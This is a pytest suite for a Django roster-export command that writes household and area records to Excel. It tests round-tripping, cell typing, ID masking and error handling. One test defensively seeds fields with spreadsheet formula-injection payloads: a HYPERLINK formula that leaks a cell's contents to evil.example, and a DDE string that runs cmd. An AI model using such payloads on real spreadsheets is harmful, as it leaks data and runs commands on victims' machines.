"""export --kind areas|roster (FORMATS §6): the roster re-imports to the same rows; cells are typed; text never
becomes a formula."""

from __future__ import annotations

import datetime
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext

from households.excel import export
from households.models import AccessLog, Household, Member, MemberYear, YearlyIncome
from tests import factories as f
from tests.households import excel_builders as xb

pytestmark = pytest.mark.django_db


def run_export(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("export", *map(str, args), stdout=out, stderr=err)
    except CommandError as error:
        return error.returncode, out.getvalue(), str(error)
    return 0, out.getvalue(), err.getvalue()


def sheet_values(path) -> list[list]:
    workbook = openpyxl.load_workbook(path, read_only=True)
    rows = []
    for sheet in workbook.worksheets:
        sheet.reset_dimensions()
        for row in sheet.iter_rows(values_only=True):
            rows.append(list(row))
    width = max(len(row) for row in rows)
    return [row + [None] * (width - len(row)) for row in rows]


def sheet_xml(path, number: int = 1) -> str:
    return zipfile.ZipFile(path).read(f"xl/worksheets/sheet{number}.xml").decode()


def rich_roster(tmp_path):
    """Every kind of value: 返贫 with its year, two other causes, several health values, unknown booleans, dates,
    decimals, an earlier income year, schooling per year, a removed member."""
    rows = xb.household_rows("HH-T-0001", members=4, 户状态="返贫", 脱贫年度=2016, 其他致贫原因="缺资金、因学")
    rows[0].update({"健康状况": "长期慢性病、残疾", "残疾等级": "二级", "疾病名称": "高血压", "养老保险": None})
    rows[2].update({"在校生状况": "高中二年级", "就读负担较重": "是"})
    rows[3].update({"在校生状况": "非在校生", "失学辍学原因": "因贫", "共享开支": "否"})
    rows += xb.household_rows("HH-T-0002", members=1, 户状态="一般农户", 建档立卡日期=None, 贫困户属性=None)
    for row in rows[-1:]:
        row.update({"饮水安全": None, "主要致贫原因": None, "其他致贫原因": None, "住房面积": 95.25, "取水半径": None})
    rows += xb.household_rows("HH-T-0003", members=2, 户状态="已脱贫", 脱贫年度=2018, 区划代码=f.GROUP_B1)
    return xb.write_roster(tmp_path / "source.xlsx", rows)


def test_roster_round_trip_gives_the_same_rows(areas, tmp_path, household_a):
    call_command("import_roster", str(rich_roster(tmp_path)), stdout=io.StringIO())
    YearlyIncome.objects.create(household=household_a, year=2017, wage=Decimal("100"))  # not the latest year
    household_a.members.filter(relation="03").update(is_active=False)  # removed members are not exported
    first = tmp_path / "first.xlsx"
    assert run_export("--kind", "roster", "--output", first)[0] == 0

    MemberYear.objects.all().delete()
    YearlyIncome.objects.all().delete()
    Member.objects.all().delete()
    Household.objects.all().delete()
    call_command("import_roster", str(first), stdout=io.StringIO())
    second = tmp_path / "second.xlsx"
    run_export("--kind", "roster", "--output", second)

    rows = sheet_values(first)
    assert rows == sheet_values(second)
    assert len(rows) == 1 + 4 + 1 + 2 + 2  # header, HH-T-0001…0003, household_a's two active members
    header = rows[0]
    by_number = {}
    for row in rows[1:]:
        by_number.setdefault(row[0], dict(zip(header, row, strict=True)))
    returned = by_number["HH-T-0001"]
    assert (returned["户状态"], returned["返贫年度"], returned["其他致贫原因"]) == ("返贫", 2018, "缺资金、因学")
    assert (returned["健康状况"], returned["养老保险"], returned["家庭人口数"]) == ("长期慢性病、残疾", None, 4)
    assert returned["建档立卡日期"] == datetime.datetime(2014, 10, 1)
    ordinary = by_number["HH-T-0002"]
    assert (ordinary["户状态"], ordinary["饮水安全"], ordinary["住房面积"]) == ("一般农户", None, 95.25)
    factory = by_number[household_a.number]
    assert (factory["户编号"], factory["收入年度"], factory["工资性收入"]) == (household_a.number, 2018, 6000)


def test_cells_are_typed_ids_as_text_money_with_two_decimals_dates_as_dates(areas, tmp_path):
    call_command("import_roster", str(rich_roster(tmp_path)), stdout=io.StringIO())
    path = tmp_path / "roster.xlsx"
    run_export("--kind", "roster", "--output", path)

    sheet = openpyxl.load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    cells = {name: sheet.cell(row=2, column=header.index(name) + 1) for name in header}
    assert sheet.freeze_panes == "A2"
    assert cells["证件号码"].data_type == "s" and cells["证件号码"].number_format == "@"
    assert len(cells["证件号码"].value) == 18  # full numbers in the county office's CLI export
    assert cells["户编号"].number_format == "@"
    assert cells["工资性收入"].data_type == "n" and cells["工资性收入"].number_format == "0.00"
    assert cells["生产经营性收入"].value == 1200.5
    assert cells["建档立卡日期"].is_date and cells["建档立卡日期"].number_format == "yyyy-mm-dd"
    assert sheet.column_dimensions["B"].width > 10


def test_text_that_looks_like_a_formula_stays_text(areas, tmp_path):
    evil = {
        "address": '=HYPERLINK("http://evil.example/?"&A2,"点击")',
        "phone": "+cmd|' /C calc'!A0",
    }
    household = f.make_household(areas[f.GROUP_A1], number="HH-EVIL", **evil)
    household.members.filter(relation="01").update(name="@SUM(1+1)")
    household.members.filter(relation="02").update(name="-2+3")
    path = tmp_path / "roster.xlsx"
    run_export("--kind", "roster", "--output", path)

    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    values = sheet_values(path)
    flat = [value for row in values for value in row]
    for text in [*evil.values(), "@SUM(1+1)", "-2+3"]:
        assert text in flat
    status = io.StringIO()
    call_command("import_roster", str(path), stdout=status)  # and it re-imports as the same text
    assert "未变 1" in status.getvalue()


def test_ids_can_be_masked(areas, tmp_path, household_a):
    path = tmp_path / "roster.xlsx"
    export.export_roster(path, mask_ids=True)
    ids = {row[xb.ROSTER_HEADERS.index("证件号码") + 2] for row in sheet_values(path)[1:]}
    assert ids == {m.masked_id_number for m in household_a.members.all()}


def test_area_option_limits_the_roster(areas, tmp_path, household_a, household_b):
    path = tmp_path / "roster.xlsx"
    assert run_export("--kind", "roster", "--area", f.TOWNSHIP_B, "--output", path)[0] == 0
    numbers = {row[0] for row in sheet_values(path)[1:]}
    assert numbers == {household_b.number}


def test_roster_export_reads_a_constant_number_of_queries_per_chunk(areas, tmp_path):
    for i in range(7):
        f.make_household(areas[f.GROUP_A1], number=f"HH-Q-{i}")
    with CaptureQueriesContext(connection) as small:
        export.export_roster(tmp_path / "a.xlsx", chunk_size=100)
    with CaptureQueriesContext(connection) as chunked:
        export.export_roster(tmp_path / "b.xlsx", chunk_size=3)
    assert len(small) == 5  # one chunk of 4 queries, then the empty page that ends the loop
    assert len(chunked) == 3 * 4 + 1


def test_rows_beyond_a_sheet_continue_on_a_second_sheet(areas, tmp_path, household_a, household_b):
    path = tmp_path / "roster.xlsx"
    written = export.export_roster(path, max_rows=4)  # header + 3 rows per sheet
    workbook = openpyxl.load_workbook(path, read_only=True)
    assert written == 6
    assert workbook.sheetnames == ["花名册", "花名册（2）"]
    assert [len(list(sheet.iter_rows())) for sheet in workbook.worksheets] == [4, 4]
    assert next(workbook.worksheets[1].iter_rows(values_only=True))[0] == "户编号"


def test_areas_export_reimports(areas, tmp_path):
    path = tmp_path / "areas.xlsx"
    status, out, _ = run_export("--kind", "areas", "--output", path)
    assert status == 0 and "9 行" in out
    rows = sheet_values(path)
    assert rows[0] == ["区划代码", "名称", "上级区划代码"]
    assert rows[1] == [f.COUNTY_CODE, "东川区", None]
    assert [f.TOWNSHIP_A, "铜都街道", f.COUNTY_CODE] in rows
    assert re.search(r'<row r="2"><c[^>]*t="(?:inlineStr|s)"', sheet_xml(path))  # codes are text cells
    out = io.StringIO()
    call_command("import_areas", str(path), stdout=out)
    assert "新增 0，更新 0，未变 9" in out.getvalue()


def test_export_is_logged_when_a_user_is_named(areas, tmp_path, county_user, household_a):
    run_export("--kind", "roster", "--output", tmp_path / "r.xlsx", "--user", "county")
    log = AccessLog.objects.get()
    assert (log.user, log.action, log.row_count) == (county_user, AccessLog.Action.EXPORT, 3)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--kind", "people"], "未知的导出类型"),
        (["--kind", "missed"], "还没有覆盖该范围的评估批次"),
        (["--kind", "roster", "--area", "999999"], "区划代码 999999 不存在"),
    ],
)
def test_bad_usage_exits_with_2(areas, tmp_path, args, message):
    status, _, err = run_export(*args, "--output", tmp_path / "x.xlsx")
    assert status == 2 and message in err
    assert not (tmp_path / "x.xlsx").exists()


def test_missing_output_directory_exits_with_2(tmp_path):
    status, _, err = run_export("--kind", "areas", "--output", tmp_path / "no" / "x.xlsx")
    assert status == 2 and "输出目录不存在" in err


def test_a_device_or_pipe_as_output_is_refused_and_left_alone(tmp_path):
    import os
    import stat

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    status, _, err = run_export("--kind", "areas", "--output", fifo)
    assert status == 2 and "输出必须是普通文件" in err
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
